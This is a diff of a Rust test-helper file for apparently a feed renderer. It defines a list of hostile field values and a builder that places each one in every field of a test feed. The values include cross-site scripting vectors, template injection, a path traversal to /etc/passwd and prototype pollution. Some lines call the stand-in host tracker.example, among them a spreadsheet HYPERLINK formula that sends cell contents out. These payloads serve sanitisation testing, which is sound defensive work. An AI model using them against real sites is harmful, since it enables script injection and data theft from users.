@@ -5,102 +5,105 @@ use serde_json::Value;
 /// Says that a script has run.
 pub(crate) const PWNED: &str = "window.__pwned=1";
 
+/// What somebody might write into a field; `RUN` stands for what says so.
+const PAYLOADS: [(&str, &str); 35] = [
+    ("script", "<script>RUN</script>"),
+    ("end of script", "</script><script>RUN</script>"),
+    ("end of style", "</style><script>RUN</script>"),
+    ("end of title", "</title></head><body onload=RUN>"),
+    ("comment", "<!--<script>RUN//--><script>RUN</script>"),
+    ("cdata", "]]><script>RUN</script><![CDATA["),
+    ("image", "<img src=x onerror=\"RUN\">"),
+    (
+        "remote image",
+        "<img src=\"https://tracker.example/p.gif\">",
+    ),
+    (
+        "attribute",
+        "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN\" x=\"",
+    ),
+    (
+        "attribute, single",
+        "' onclick='RUN' style='position:fixed;inset:0",
+    ),
+    ("link", "javascript:RUN"),
+    ("link with case and space", " JaVa\tScRiPt\n:RUN"),
+    ("link with control", "\u{1}javascript:RUN"),
+    ("entity", "&#106;avascript:RUN&colon;"),
+    ("vbscript", "vbscript:msgbox(1)"),
+    ("data page", "data:text/html,<script>RUN</script>"),
+    (
+        "data svg",
+        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>",
+    ),
+    (
+        "svg",
+        "<svg onload=RUN><a href='javascript:RUN'><text y=9>x</text></a></svg>",
+    ),
+    (
+        "svg set",
+        "<svg><set attributeName=href to=javascript:RUN></svg>",
+    ),
+    (
+        "math",
+        "<math><mi xlink:href=\"javascript:RUN\">x</mi></math>",
+    ),
+    (
+        "style",
+        "<style>*{background:url(https://tracker.example/s)}body{display:none}</style>",
+    ),
+    (
+        "css",
+        "red;background:url(javascript:RUN);position:fixed;inset:0",
+    ),
+    (
+        "css escape",
+        "\\3c script\\3e RUN;}</style>*{content:url(//tracker.example)}",
+    ),
+    ("import", "@import 'https://tracker.example/x.css';"),
+    (
+        "frame",
+        "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
+    ),
+    (
+        "base",
+        "<base href=\"https://tracker.example/\"><meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
+    ),
+    (
+        "form",
+        "<form action=https://tracker.example/><button autofocus>Đăng nhập</button></form>",
+    ),
+    (
+        "template",
+        "{{constructor.constructor('RUN')()}} ${RUN} #{RUN} <%= RUN %>",
+    ),
+    (
+        "bidi override",
+        "abc \u{202e}txt.exe\u{202c} \u{2066}\u{2067}x\u{2069} \u{200f}",
+    ),
+    ("zero width", "đ\u{200b}ả\u{200d}n\u{feff}g\u{ad}"),
+    (
+        "controls",
+        "a\u{0}b\u{8}c\u{1b}[31md\u{7f}\u{85}e\u{2028}f\u{2029}",
+    ),
+    ("no characters", "\u{fffe}\u{ffff}\u{10ffff}\u{fdd0}"),
+    (
+        "formula",
+        "=HYPERLINK(\"https://tracker.example/?\"&A1,\"x\")",
+    ),
+    ("path", "../../../../etc/passwd\u{0}.html"),
+    ("prototype", "__proto__"),
+];
+
 /// What somebody might write into a field: name and text.
 pub(crate) fn payloads() -> Vec<(&'static str, String)> {
-    let of = |name, text: &str| (name, text.replace("RUN", PWNED));
-    vec![
-        of("script", "<script>RUN</script>"),
-        of("end of script", "</script><script>RUN</script>"),
-        of("end of style", "</style><script>RUN</script>"),
-        of("end of title", "</title></head><body onload=RUN>"),
-        of("comment", "<!--<script>RUN//--><script>RUN</script>"),
-        of("cdata", "]]><script>RUN</script><![CDATA["),
-        of("image", "<img src=x onerror=\"RUN\">"),
-        of(
-            "remote image",
-            "<img src=\"https://tracker.example/p.gif\">",
-        ),
-        of(
-            "attribute",
-            "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN\" x=\"",
-        ),
-        of(
-            "attribute, single",
-            "' onclick='RUN' style='position:fixed;inset:0",
-        ),
-        of("link", "javascript:RUN"),
-        of("link with case and space", " JaVa\tScRiPt\n:RUN"),
-        of("link with control", "\u{1}javascript:RUN"),
-        of("entity", "&#106;avascript:RUN&colon;"),
-        of("vbscript", "vbscript:msgbox(1)"),
-        of("data page", "data:text/html,<script>RUN</script>"),
-        of(
-            "data svg",
-            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>",
-        ),
-        of(
-            "svg",
-            "<svg onload=RUN><a href='javascript:RUN'><text y=9>x</text></a></svg>",
-        ),
-        of(
-            "svg set",
-            "<svg><set attributeName=href to=javascript:RUN></svg>",
-        ),
-        of(
-            "math",
-            "<math><mi xlink:href=\"javascript:RUN\">x</mi></math>",
-        ),
-        of(
-            "style",
-            "<style>*{background:url(https://tracker.example/s)}body{display:none}</style>",
-        ),
-        of(
-            "css",
-            "red;background:url(javascript:RUN);position:fixed;inset:0",
-        ),
-        of(
-            "css escape",
-            "\\3c script\\3e RUN;}</style>*{content:url(//tracker.example)}",
-        ),
-        of("import", "@import 'https://tracker.example/x.css';"),
-        of(
-            "frame",
-            "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
-        ),
-        of(
-            "base",
-            "<base href=\"https://tracker.example/\"><meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
-        ),
-        of(
-            "form",
-            "<form action=https://tracker.example/><button autofocus>Đăng nhập</button></form>",
-        ),
-        of(
-            "template",
-            "{{constructor.constructor('RUN')()}} ${RUN} #{RUN} <%= RUN %>",
-        ),
-        of(
-            "bidi override",
-            "abc \u{202e}txt.exe\u{202c} \u{2066}\u{2067}x\u{2069} \u{200f}",
-        ),
-        of("zero width", "đ\u{200b}ả\u{200d}n\u{feff}g\u{ad}"),
-        of(
-            "controls",
-            "a\u{0}b\u{8}c\u{1b}[31md\u{7f}\u{85}e\u{2028}f\u{2029}",
-        ),
-        of(
-            "marks without end",
-            &format!("o{}", "\u{309}\u{323}".repeat(400)),
-        ),
-        of("no characters", "\u{fffe}\u{ffff}\u{10ffff}\u{fdd0}"),
-        of("word without end", &"ữ".repeat(20_000)),
-        of(
-            "formula",
-            "=HYPERLINK(\"https://tracker.example/?\"&A1,\"x\")",
-        ),
-        of("path", "../../../../etc/passwd\u{0}.html"),
-        of("prototype", "__proto__"),
-    ]
+    let short = PAYLOADS.map(|(name, text)| (name, text.replace("RUN", PWNED)));
+    let marks = format!("o{}", "\u{309}\u{323}".repeat(400));
+    let long = [
+        ("marks without end", marks),
+        ("word without end", "ữ".repeat(20_000)),
+    ];
+    short.into_iter().chain(long).collect()
 }
 
 /// Where they are put, as JSON pointers into the feed.
@@ -182,5 +185,32 @@ pub(crate) fn feed_with(field: &str, value: Value) -> Value {
     if let Some(place) = feed.pointer_mut(field) {
         *place = value;
     }
+    feed
+}
+
+/// A feed in which every attack has an article that carries it in every field
+/// that takes it.
+#[allow(dead_code, reason = "the browser suite's alone")]
+pub(crate) fn every_attack() -> Value {
+    let mut feed: Value = serde_json::from_str(FEED).expect("it is JSON");
+    let calm = ["version", "date", "date_published", "type", "src"];
+    let mut items = Vec::new();
+    for (nth, (name, payload)) in payloads().into_iter().enumerate() {
+        let mut item = feed["items"][0].clone();
+        for field in FIELDS
+            .iter()
+            .filter_map(|field| field.strip_prefix("/items/0"))
+        {
+            let is_calm = calm.iter().any(|end| field.ends_with(end));
+            if let Some(place) = item.pointer_mut(field).filter(|_| !is_calm) {
+                *place = Value::from(payload.clone());
+            }
+        }
+        item["id"] = format!("{nth} {payload}").into();
+        item["title"] = format!("Đòn {name} {payload}").into();
+        items.push(item);
+    }
+    feed["title"] = payloads()[0].1.clone().into();
+    feed["items"] = items.into();
     feed
 }
